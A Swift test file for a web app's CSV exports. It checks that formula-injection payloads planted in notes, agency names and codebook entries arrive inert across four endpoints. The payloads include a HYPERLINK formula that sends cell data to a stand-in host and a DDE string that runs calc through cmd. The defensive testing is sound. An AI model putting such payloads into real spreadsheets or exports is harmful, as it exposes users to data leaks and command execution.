import Foundation
import Testing
import Vapor
import WellplanCore

@testable import App

/// Every CSV the product serves goes through the one writer: a text a spreadsheet would run as a formula
/// arrives inert, every line ends in CR LF, and the product's reader reads the file back as it was.
@Suite struct CSVOutputTests {
    static let formula = #"=HYPERLINK("http://x.example/?q="&A1,"Click")"#

    @Test func formulasArriveInertInEveryCSVServed() async throws {
        try await withApp { app in
            let f = try await SituationFixture.make(app)
            let w = RecordWriter(db: app.db, author: .commandLine)
            // A figure's note, on the public open-data CSV (where the formula was served as it was).
            var measure = Measure(
                planId: f.base.plan.id, code: "note", nameEn: "Noted", resultEn: "Better", published: true)
            try await w.create(measure)
            try await Observations(db: app.db, author: .commandLine).save(
                [Observation(period: .year(2024), value: 12, note: Self.formula)], of: measure)
            measure = try #require(try await Records(db: app.db.sql).find(Measure.self, measure.id))
            // An agency's name, on a situation table's RTD export.
            let id = try await f.planned(app)
            var health = f.health
            health.nameEn = "@SUM(1+1)*cmd"
            try await w.update(health, before: f.health)
            // A code's name, on the codebook's CSV.
            let consultation = Consultation(planId: f.base.plan.id, titleEn: "Heard")
            try await w.create(consultation)
            try await w.create(
                ThematicCode(consultationId: consultation.id, nameEn: "-1+cmd|' /C calc'!A0", descriptionEn: "+tab"))

            let browser = Browser(app)
            _ = try await browser.signIn("health@test.ca")
            let served = [
                (
                    "public measure", try await browser.get("/public/measures/\(measure.id)/data.csv").body.string,
                    Self.formula
                ),
                (
                    "partners' measure", try await browser.get("/measures/\(measure.id)/series/data.csv").body.string,
                    Self.formula
                ),
                (
                    "RTD export", try await browser.get("/tables/\(f.table.id)/discussions.csv").body.string,
                    "@SUM(1+1)*cmd"
                ),
                (
                    "codebook",
                    try await browser.get("/consultations/\(consultation.id)/codebook?format=csv").body.string,
                    "-1+cmd|' /C calc'!A0"
                ),
            ]
            #expect(try await Records(db: app.db.sql).find(SituationDiscussion.self, id) != nil)
            for (what, text, attack) in served {
                let rows = try CSVDocument(data: Data(text.utf8))
                #expect(
                    rows.rows.contains { $0.fields.contains(attack) }, "\(what): the text does not read back as it was")
                let cells = text.split(separator: "\r\n").flatMap { $0.split(separator: ",") }
                #expect(
                    !cells.contains { $0.hasPrefix(attack.prefix(4)) || $0.hasPrefix("\"" + attack.prefix(4)) },
                    "\(what): \(text)")
                #expect(
                    !text.replacingOccurrences(of: "\r\n", with: "").contains("\n"),
                    "\(what) ends a line otherwise than CR LF")
            }
        }
    }
}
